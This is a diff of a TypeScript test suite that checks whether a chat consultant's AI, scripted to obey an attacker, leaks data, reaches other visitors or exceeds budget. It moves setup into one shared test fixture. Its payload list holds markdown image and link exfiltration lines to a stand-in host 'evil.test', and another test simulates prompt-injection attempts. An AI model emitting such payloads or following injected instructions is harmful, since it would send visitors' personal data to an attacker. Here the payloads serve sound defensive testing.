@@ -1,21 +1,32 @@
 import { randomUUID } from "node:crypto";
 import { type ChatRequest, type Reply, startScriptedOpenAi } from "@ilpo-chat/testkit";
 import type { Entry } from "@ilpo-chat/protocol";
-import { describe, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { byAi, freshDatabase, providerAt, startNode, startVisitor } from "./support.ts";
 
 // The model does whatever the attacker wants: the damage must be nil all the same. S-04, S-23, S-24, S-25.
 
 const evil = "https://evil.test/?d=";
 
-async function stage(respond: (request: ChatRequest) => Reply, chunkSize = 3) {
+/** One house for all of it; each test says what its model does. */
+async function openHouse() {
   const stack = new AsyncDisposableStack();
   const database = stack.use(await freshDatabase("postgres"));
-  const upstream = stack.use(await startScriptedOpenAi({ respond, chunkSize }));
+  const upstream = stack.use(await startScriptedOpenAi({ chunkSize: 4 }));
   const node = stack.use(
     await startNode({ url: database.url, config: providerAt(upstream.baseUrl) }),
   );
-  return { node, upstream, [Symbol.asyncDispose]: () => stack.disposeAsync() };
+  return {
+    node,
+    upstream,
+    /** The requests from now on. */
+    obey(respond: (request: ChatRequest) => Reply) {
+      upstream.setRespond(respond);
+      const since = upstream.requests.length;
+      return () => upstream.requests.slice(since);
+    },
+    [Symbol.asyncDispose]: () => stack.disposeAsync(),
+  };
 }
 
 const textOf = ({ content }: ChatRequest["messages"][number]) =>
@@ -31,6 +42,12 @@ const nthAnswer = (count: number) => {
 };
 
 describe("a model that obeys the attacker", () => {
+  let house: Awaited<ReturnType<typeof openHouse>>;
+  beforeAll(async () => {
+    house = await openHouse();
+  });
+  afterAll(() => house[Symbol.asyncDispose]());
+
   it("carries nothing off by links and pictures, in no piece of its answer", async () => {
     const payloads = [
       `![](${evil}[[phone-1]])`,
@@ -44,7 +61,7 @@ describe("a model that obeys the attacker", () => {
       "[официальный сайт](https://taxi.test@evil.test/)",
     ];
     let at = 0;
-    await using house = await stage(() => `Конечно. ${payloads[at] ?? ""} Готово`);
+    house.obey(() => `Конечно. ${payloads[at] ?? ""} Готово`);
     const { node } = house;
     for (at = 0; at < payloads.length; at += 1) {
       const visitor = await startVisitor(node);
@@ -61,9 +78,7 @@ describe("a model that obeys the attacker", () => {
   });
 
   it("may give the site's own links, and those of the site's articles", async () => {
-    await using house = await stage(
-      () => "Вот: [анкета](http://taxi.test/join) и https://pro.example.org/app, да",
-    );
+    house.obey(() => "Вот: [анкета](http://taxi.test/join) и https://pro.example.org/app, да");
     const { node } = house;
     await node.ai.knowledge.save(node.site.id, {
       slug: "apply",
@@ -80,10 +95,8 @@ describe("a model that obeys the attacker", () => {
   });
 
   it("has no secret to tell, and hears nobody but this visitor", async () => {
-    await using house = await stage(({ messages }) =>
-      messages.map(textOf).join("\n").slice(0, 900),
-    );
-    const { node, upstream } = house;
+    const requests = house.obey(({ messages }) => messages.map(textOf).join("\n").slice(0, 900));
+    const { node } = house;
     const stranger = await startVisitor(node);
     await stranger.say("я Тайный Незнакомец, мой номер +7 999 888-77-66");
     await stranger.see(byAi);
@@ -92,13 +105,15 @@ describe("a model that obeys the attacker", () => {
       await visitor.say(attack);
       await visitor.see(nthAnswer(at + 1));
     }
-    const heard = upstream.requests.slice(1).map(({ body }) => JSON.stringify(body));
+    const heard = requests()
+      .slice(1)
+      .map(({ body }) => JSON.stringify(body));
     expect(heard.length).toBeGreaterThan(0);
     for (const body of heard) {
       expect(body).not.toMatch(/Незнакомец|888|"key"|a secret of the tests/);
     }
     // What a visitor writes is never anything but a visitor's words, whatever it pretends to be.
-    for (const { body } of upstream.requests) {
+    for (const { body } of requests()) {
       const roles = body.messages.map(({ role }) => role);
       expect(roles[0]).toBe("system");
       expect(roles.slice(1)).not.toContain("system");
@@ -112,7 +127,7 @@ describe("a model that obeys the attacker", () => {
   it("reaches no other visitor, no other site and nothing but its four tools", async () => {
     const results: string[] = [];
     let victim = { conversationId: "", visitorId: "" };
-    await using house = await stage((request) => {
+    house.obey((request) => {
       if (isLastTool(request)) {
         results.push(...request.messages.filter(({ role }) => role === "tool").map(textOf));
         return "Сделано.";
@@ -127,7 +142,7 @@ describe("a model that obeys the attacker", () => {
           { name: "save_lead", arguments: `{"name":"${"x".repeat(9_000)}"}` },
         ],
       };
-    }, 50);
+    });
     const { node } = house;
     const owner = await startVisitor(node);
     await owner.say("спасибо");
@@ -160,23 +175,24 @@ describe("a model that obeys the attacker", () => {
   });
 
   it("costs no more than the visitor's share, and every word is still answered", async () => {
-    await using house = await stage(() => "слово ".repeat(600), 200);
-    const { node, upstream } = house;
-    await node.auth.sites.save({ ...node.site, consultant: { visitorDayUsd: 0.02 } });
+    const requests = house.obey(() => "слово ".repeat(50));
+    const { node } = house;
+    await node.auth.sites.save({ ...node.site, consultant: { visitorDayUsd: 0.01 } });
     const visitor = await startVisitor(node);
-    for (let count = 1; count <= 12; count += 1) {
+    for (let count = 1; count <= 6; count += 1) {
       await visitor.say(`какая комиссия у парка, раз ${count}`);
       await visitor.see(nthAnswer(count));
     }
-    expect(upstream.requests.length).toBeGreaterThan(0);
-    expect(upstream.requests.length).toBeLessThan(12);
+    expect(requests().length).toBeGreaterThan(0);
+    expect(requests().length).toBeLessThan(6);
     expect(visitor.entries.flatMap((entry) => byAi(entry) ?? []).at(-1)?.content).toContain("3%");
+    await node.auth.sites.save({ ...node.site, consultant: {} });
   });
 
   it("is cut off when a manager takes over", async () => {
     const begun = Promise.withResolvers<void>();
-    await using house = await stage(() => endless(begun.resolve));
-    const { node, upstream } = house;
+    const requests = house.obey(() => endless(begun.resolve));
+    const { node } = house;
     const visitor = await startVisitor(node);
     await visitor.say("расскажи подробно про парк");
     await begun.promise;
@@ -184,7 +200,7 @@ describe("a model that obeys the attacker", () => {
       conversationId: visitor.conversationId,
       manager: { id: 1, name: "Анна" },
     });
-    await expect.poll(() => upstream.requests[0]?.isAborted, { timeout: 10_000 }).toBe(true);
+    await expect.poll(() => requests()[0]?.isAborted, { timeout: 10_000 }).toBe(true);
     expect(visitor.entries.flatMap((entry) => byAi(entry) ?? [])).toEqual([]);
   });
 });
